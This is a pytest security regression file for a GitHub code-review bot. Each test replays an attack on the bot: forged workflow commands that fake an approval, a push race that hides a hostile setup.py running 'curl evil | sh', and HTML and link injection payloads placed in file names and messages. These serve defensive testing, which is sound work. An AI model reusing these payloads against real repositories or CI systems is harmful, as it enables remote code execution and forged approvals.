"""A second, outside attacker's review of the issue-10 security work: each test is an attack that
worked against the code before its fix (see docs/security.md)."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from approveworld import fix_pr_world, measure, submit
from botworld import STRANGER, RemoteWorld
from fake_github import BOT_USER, FakeGitHub
from rendered_markdown import untrusted_markup
from test_github_approve import BRANCH, CONFIG, GOOD, MODEL, entry, report
from test_github_commands import command
from test_github_e2e import BASE, HEAD
from world import NUMBER, REPO

from graphmend_bot.github.core.markers import SUMMARY_MARKER


@pytest.fixture
def world(tmp_path: Path, fake_github: FakeGitHub) -> RemoteWorld:
    return RemoteWorld(tmp_path, fake_github, BASE, HEAD)


def bots_issue_comments(fake: FakeGitHub) -> list[dict[str, Any]]:
    return [c for c in fake.issue_comments if c["user"]["login"] == BOT_USER["login"]]


# -- a marker smuggled into the bot's own comment through text it quotes ------------------------
def test_a_marker_quoted_in_the_bots_reply_does_not_make_it_the_summary(world: RemoteWorld) -> None:
    first = world.run(world.event("pull_request.opened.json"), fail_on="never")
    assert first.returncode == 0, first.stdout + first.stderr
    [summary] = [c for c in bots_issue_comments(world.fake) if SUMMARY_MARKER in c["body"]]
    # A stranger's command is refused, and the refusal quotes it: now the bot's own comment holds the marker.
    refused, _ = command(world, f"/graphmend nope {SUMMARY_MARKER}", STRANGER, "NONE")
    assert refused.returncode == 0, refused.stdout + refused.stderr
    reply = bots_issue_comments(world.fake)[-1]
    reply_body = reply["body"]
    assert "only users with write access" in reply_body

    second = world.run(world.event("pull_request.synchronize.json"), fail_on="never")

    assert second.returncode == 0, second.stdout + second.stderr
    assert summary in world.fake.issue_comments  # the real summary is neither deleted ...
    assert reply in world.fake.issue_comments and reply["body"] == reply_body  # ... nor is the reply taken for it


# -- workflow commands smuggled into the job log -------------------------------------------------
OWN_COMMAND = re.compile(r"::(notice|warning|error) title=GraphMend::")


def forged_commands(stdout: str) -> list[str]:
    """Lines the runner would obey as workflow commands that GraphMend did not mean to write."""
    return [line for line in stdout.splitlines()
            if (line.strip().startswith("::") and not OWN_COMMAND.match(line)) or "##[" in line]


def test_text_from_the_measured_report_cannot_issue_workflow_commands(tmp_path: Path,
                                                                      fake_github: FakeGitHub) -> None:
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH)},
                         {"tinynet.py": MODEL.format(body=GOOD)})
    forged = "\n::set-output name=decision::APPROVE\n  ::warning::all good, approved\n##[error]forged"
    report_file = tmp_path / "verify.json"  # written where the pull request's code ran: anything goes
    report_file.write_text(json.dumps(report(entry(name=f"model{forged}", original={"ok": False, "error": forged}))))
    done = submit(world, report_file)
    assert done.returncode == 1 and done.outputs["decision"] == "REQUEST_CHANGES", done.log
    assert "set-output name=decision" in done.stdout  # it is in the log, as text
    assert forged_commands(done.stdout) == []


# -- approve: the file list must be the measured commit's, not the live head's -------------------
def test_a_push_during_submit_cannot_hide_a_file_from_the_rewrite_check(tmp_path: Path,
                                                                       fake_github: FakeGitHub) -> None:
    evil = "import os\nos.system('curl evil | sh')\n"
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH), "setup.py": "setup()\n"},
                         {"tinynet.py": MODEL.format(body=GOOD), "setup.py": evil})
    measured = world.head_sha  # the rewrite plus a hostile setup.py: what was measured and gets the review
    # Right after submit has read the pull request, a push removes setup.py's change again.
    fake_github.after_request.append(("GET", rf"/repos/{REPO}/pulls/{NUMBER}",
                                      lambda: world.push({"setup.py": "setup()\n"})))
    report_file = tmp_path / "verify.json"
    report_file.write_text(json.dumps(report(entry())))
    done = submit(world, report_file, measured)
    assert world.head_sha != measured, done.log  # the race happened
    reviews = fake_github.reviews_on(REPO, NUMBER)
    assert all(r["state"] != "APPROVED" for r in reviews), done.log
    assert [r["commit_id"] for r in reviews] == [measured]
    assert "`setup.py` is changed" in reviews[0]["body"]


# -- Markdown from pull requests in the bot's own comments --------------------------------------
def outside_code_spans(markdown: str) -> str:
    """The text CommonMark reads as Markdown, not code: code spans and fenced blocks removed.
    A span opens with a run of n backticks and closes at the next run of exactly n."""
    lines, fence = [], ""
    for line in markdown.splitlines():
        opening = re.match(r"\s*(`{3,})", line)
        if fence:
            if opening and opening.group(1).startswith(fence) and not line.strip().strip("`"):
                fence = ""
            continue
        if opening and "`" not in line.strip()[len(opening.group(1)):]:
            fence = opening.group(1)
            continue
        lines.append(line)
    text, out, index = "\n".join(lines), [], 0
    while index < len(text):
        run = re.match(r"`+", text[index:])
        if run is None:
            out.append(text[index])
            index += 1
            continue
        ticks = run.group()
        close = re.search(rf"(?<!`){ticks}(?!`)", text[index + len(ticks):])
        if close is None:
            out.append(ticks)
            index += len(ticks)
        else:
            index += len(ticks) + close.end()
    return "".join(out)


HOSTILE_NAME = "pkg/x` @octocat <img src=x onerror=alert(1)> [win](http:evil.example) y.py"


def test_a_hostile_file_name_stays_code_in_the_bots_comments(tmp_path: Path, fake_github: FakeGitHub) -> None:
    from test_github_e2e import UNTOUCHED

    world = RemoteWorld(tmp_path, fake_github, BASE, {**HEAD, HOSTILE_NAME: UNTOUCHED})
    run = world.run(world.event("pull_request.opened.json"), fail_on="never")
    assert run.returncode == 0, run.stdout + run.stderr
    posted = [c["body"] for c in bots_issue_comments(world.fake)] + [r["body"] for r in world.fake.reviews]
    [summary] = [body for body in posted if SUMMARY_MARKER in body]
    assert "@octocat" in summary  # the file is reported ...
    for body in posted:  # ... but its name is never Markdown: no mention, no HTML, no link
        markdown = outside_code_spans(body)
        assert "@octocat" not in markdown and "<img" not in markdown and "](http:evil.example)" not in markdown, markdown


# A fix message quotes the code it rewrites in backticks; a backtick in a string literal of that code
# ended the quote, and the rest was Markdown in the bot's inline comment.
QUOTING_MODEL = '''\
import torch
from torch import nn


class Quoted(nn.Module):
    def forward(self, x):
        y = x * 2
        v = y["a` @octocat <img src=x onerror=alert(1)> [win](http:evil.example) `"].sum().item()
        return y * v
'''


def test_code_quoted_in_a_fix_message_stays_code(tmp_path: Path, fake_github: FakeGitHub) -> None:
    world = RemoteWorld(tmp_path, fake_github, BASE, {**HEAD, "pkg/quoted.py": QUOTING_MODEL})
    run = world.run(world.event("pull_request.opened.json"), fail_on="never")
    assert run.returncode == 0, run.stdout + run.stderr
    inline = [c["body"] for c in world.fake.review_comments if c["path"] == "pkg/quoted.py"]
    assert inline and any("Keep" in body and "octocat" in body for body in inline)  # the fix is described
    posted = inline + [c["body"] for c in bots_issue_comments(world.fake)] + [r["body"] for r in world.fake.reviews]
    for body in posted:  # rendered as GitHub renders it: no mention, HTML or link from the code
        assert untrusted_markup(body, repository_links=f"https://github.com/{REPO}/blob/",
                                own_commits=world.fake.commit_shas()) == [], body


# -- the measured code's stderr, echoed by `approve measure`, is no workflow command ------------
def test_stderr_of_the_measured_code_cannot_issue_workflow_commands(tmp_path: Path, fake_github: FakeGitHub) -> None:
    crash = ("        import os, sys\n        sys.stderr.write('\\n::error title=GraphMend::verified, all good\\n"
             "::set-output name=decision::APPROVE\\n')\n        sys.stderr.flush()\n        os._exit(3)\n")
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH), ".graphmend.yml": CONFIG},
                         {"tinynet.py": MODEL.format(body=crash + GOOD)})
    done = measure(world, tmp_path / "verify.json")
    assert "set-output name=decision" in done.stdout + done.stderr, done.log  # echoed, as text
    assert forged_commands(done.stdout) == [] and forged_commands(done.stderr) == []
    assert "verified, all good" not in "".join(line for line in (done.stdout + done.stderr).splitlines()
                                               if OWN_COMMAND.match(line))


# -- names in the GPU review: a file pushed to the fix branch under a hostile name ---------------
def test_a_hostile_file_name_in_a_fix_pull_request_stays_code_in_the_gpu_review(tmp_path: Path,
                                                                               fake_github: FakeGitHub) -> None:
    world = fix_pr_world(tmp_path, fake_github, {"tinynet.py": MODEL.format(body=BRANCH)},
                         {"tinynet.py": MODEL.format(body=GOOD), HOSTILE_NAME.replace("y.py", "notes.txt"): "hi\n"})
    report_file = tmp_path / "verify.json"
    report_file.write_text(json.dumps(report(entry())))
    done = submit(world, report_file)
    assert done.outputs["decision"] == "COMMENT", done.log
    [review] = fake_github.reviews_on(REPO, NUMBER)
    assert "octocat" in review["body"]  # the file is named ...
    markdown = outside_code_spans(review["body"])  # ... as code only
    assert "@octocat" not in markdown and "<img" not in markdown and "](http:evil.example)" not in markdown, markdown


# -- a forged bundle's per-file errors and messages in the fork pull request's summary ------------
def test_a_forged_bundles_text_is_inert_in_the_summary(tmp_path: Path, fake_github: FakeGitHub) -> None:
    from test_github_security import _first_workflow, _second_workflow
    from world import PullRequestWorld

    world = PullRequestWorld(tmp_path, fake_github, BASE, HEAD)
    bundle = _first_workflow(world)
    payload = "<img src=x onerror=alert(1)> [Approved, merge now](http:evil.example) www.evil.example"
    bundle["errors"] = [{"path": "pkg/model.py", "message": payload}]
    for item in bundle["findings"]:
        item["message"] = payload
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    run = _second_workflow(world, downloads, bundle)
    assert run.returncode == 0, run.stdout + run.stderr
    posted = [c["body"] for c in bots_issue_comments(fake_github)] + [c["body"] for c in fake_github.review_comments]
    assert any("Approved, merge now" in body for body in posted)  # the text is shown ...
    for body in posted:  # ... as text (rendered as GitHub renders it)
        assert untrusted_markup(body, repository_links=f"https://github.com/{REPO}/blob/",
                                own_commits=world.fake.commit_shas()) == [], body
